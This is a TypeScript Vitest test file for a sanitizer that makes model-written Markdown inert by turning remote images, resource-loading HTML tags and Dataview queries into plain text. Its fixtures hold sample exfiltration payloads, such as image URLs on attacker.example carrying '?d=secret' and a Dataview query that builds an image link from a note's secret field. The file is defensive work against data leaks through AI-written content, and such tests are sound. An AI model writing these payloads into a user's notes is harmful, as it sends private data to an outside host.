import { describe, expect, it } from 'vitest';
import { defusedNotice, defuseRemoteContent } from './defuse-remote-content.js';

describe('S17: defuseRemoteContent makes model-written remote content inert', () => {
  it('turns a remote Markdown image into a plain link, alt text kept or a readable one given', async () => {
    const r = await defuseRemoteContent(
      '- We met (L7) ![](https://attacker.example/p.png?q=rubber-12.50EUR)\n![chart](http://x.example/c.png "t")',
    );
    expect(r.text).toBe(
      '- We met (L7) [image: attacker.example/p.png](https://attacker.example/p.png?q=rubber-12.50EUR)\n[chart](http://x.example/c.png "t")',
    );
    expect(r.defused.map((d) => d.kind)).toEqual(['image', 'image']);
  });

  it('catches every spelling that still loads: angle brackets, protocol-relative, backslashes, entities', async () => {
    for (const dest of [
      '<https://a.example/x y.png>',
      '//a.example/x.png',
      'https:\\\\a.example\\x.png',
      '&#104;ttps://a.example/x.png',
      'HTTPS://A.EXAMPLE/X',
    ]) {
      const r = await defuseRemoteContent(`see ![x](${dest}) now`);
      expect(r.text, dest).not.toContain('![');
      expect(r.defused).toHaveLength(1);
    }
  });

  it('leaves local images, embeds, links and code alone', async () => {
    const text =
      '![](diagram.png) ![[Quote.pdf]] [site](https://a.example) ![x](C:/pics/a.png)\n`![](https://a.example/p.png)`\n```\n<img src="https://a.example/i.png">\n```';
    expect(await defuseRemoteContent(text)).toEqual({ text, defused: [] });
  });

  it('escapes the remote definition of a reference-style image (all three forms)', async () => {
    for (const use of ['![x][ref]', '![ref][]', '![ref]']) {
      const r = await defuseRemoteContent(`a ${use} b\n\n[Ref]: https://attacker.example/r.png?d=secret "t"`);
      expect(r.text, use).toContain('\\[Ref]: https://attacker.example/r.png');
      expect(r.defused.map((d) => d.kind)).toEqual(['reference']);
    }
    // A remote definition no image uses is an ordinary link target: kept.
    const link = '[site][ref]\n\n[ref]: https://a.example';
    expect((await defuseRemoteContent(link)).text).toBe(link);
  });

  it('escapes HTML that loads something, whatever its case or layout, and leaves other tags', async () => {
    const tags = [
      '<img src="https://attacker.example/i.png?d=secret">',
      '<IMG\nSRC=https://a.example/i.png>',
      '<iframe src="https://a.example"></iframe>',
      '<video poster="https://a.example/p.png"></video>',
      '<audio><source src="https://a.example/a.mp3"></audio>',
      '<div style="background:url(https://a.example/b.png)">x</div>',
      '<picture><source srcset="https://a.example/a.png"></picture>',
      '<svg><image href="https://a.example/a.png"/></svg>',
      '<link rel="stylesheet" href="https://a.example/s.css">',
      '<style>@import url(https://a.example/s.css)</style>',
    ];
    for (const tag of tags) {
      const r = await defuseRemoteContent(`before ${tag} after`);
      expect(r.text, tag).not.toMatch(/<(?:img|iframe|video|source|div|picture|svg|image|link|style)\b/i);
      expect(r.text, tag).toContain('&lt;');
      expect(r.defused.length, tag).toBeGreaterThan(0);
    }
    const plain = '<b>bold</b> <a href="https://a.example">x</a> <br> <span class="c">y</span>';
    expect((await defuseRemoteContent(plain)).text).toBe(plain);
  });

  it('renames dataview and dataviewjs blocks so no plugin runs them', async () => {
    const r = await defuseRemoteContent('x\n```dataviewjs\ndv.paragraph(1)\n```\n~~~ dataview\nLIST\n~~~\n');
    expect(r.text).toBe('x\n```defused-dataviewjs\ndv.paragraph(1)\n```\n~~~ defused-dataview\nLIST\n~~~\n');
    expect(r.defused.map((d) => d.kind)).toEqual(['query', 'query']);
  });

  it('keeps line count, is idempotent, and keeps what the file already held', async () => {
    const text = 'a ![](https://a.example/p.png)\n<img src="https://a.example/i.png">\nb\n';
    const once = (await defuseRemoteContent(text)).text;
    expect(once.split('\n')).toHaveLength(text.split('\n').length);
    expect(await defuseRemoteContent(once)).toEqual({ text: once, defused: [] });
    const user = 'the team logo ![](https://corp.example/logo.png)';
    expect(
      (await defuseRemoteContent(`${user}\nnew ![](https://attacker.example/x.png)`, { keep: user })).text,
    ).toBe(`${user}\nnew [image: attacker.example/x.png](https://attacker.example/x.png)`);
  });

  it('says what it defused', async () => {
    const { defused } = await defuseRemoteContent(
      '![](https://a.example/p.png) <img src="https://a.example/i.png">',
    );
    expect(defusedNotice(defused)).toMatch(
      /^defused 2 items .*1 remote image, 1 HTML tag; first: "!\[\]\(https:\/\/a\.example\/p\.png\)"/,
    );
    expect(defusedNotice([])).toBe('');
  });
});

describe('S17 follow-up: Dataview inline queries (`$= …` JS, `= …` DQL) are defused', () => {
  it('breaks the prefix of an inline code span, in any spacing, so it shows as code', async () => {
    const r = await defuseRemoteContent(
      'a `$= dv.io.load("x")` b ``  = "![](https://a.example/?d=" + [[Secret]].pay + ")" `` c',
    );
    expect(r.text).toBe(
      'a `\\$= dv.io.load("x")` b ``  \\= "![](https://a.example/?d=" + [[Secret]].pay + ")" `` c',
    );
    expect(r.defused.map((d) => d.kind)).toEqual(['inline-query', 'inline-query']);
    expect(defusedNotice(r.defused)).toMatch(/2 Dataview inline queries/);
  });

  it('breaks a code block whose text starts with a prefix (Dataview evaluates those too), fenced or indented', async () => {
    const r = await defuseRemoteContent(
      'x\n```\n\n  $= dv.pages()\n```\npara\n\n    = this.file.name\n> \n>     $= 1\n',
    );
    expect(r.text).toBe(
      'x\n```\n\n  \\$= dv.pages()\n```\npara\n\n    \\= this.file.name\n> \n>     \\$= 1\n',
    );
    expect(r.defused).toHaveLength(3);
  });

  it('escapes an HTML <code> element that starts with a prefix', async () => {
    const r = await defuseRemoteContent('see <code> $= dv.el("img", "")</code> and <code>plain</code>');
    expect(r.text).toBe('see &lt;code> $= dv.el("img", "")</code> and <code>plain</code>');
    expect(r.defused.map((d) => d.kind)).toEqual(['inline-query']);
  });

  it('leaves other code, prose with "=", setext headings and what the file held alone; idempotent', async () => {
    const text =
      'a `x = 1` b `a == b` too\nTitle\n=====\n```js\nconst a = 1\n```\n   = not code (3 spaces)\n';
    expect(await defuseRemoteContent(text)).toEqual({ text, defused: [] });
    const user = 'Today: `= date(today)`';
    expect((await defuseRemoteContent(`${user}\nnew \`$= 1\``, { keep: user })).text).toBe(
      `${user}\nnew \`\\$= 1\``,
    );
    const once = (await defuseRemoteContent('`$= 1`\n```\n= 2\n```\n    $= 3\n<code>=4</code>')).text;
    expect(await defuseRemoteContent(once)).toEqual({ text: once, defused: [] });
  });
});
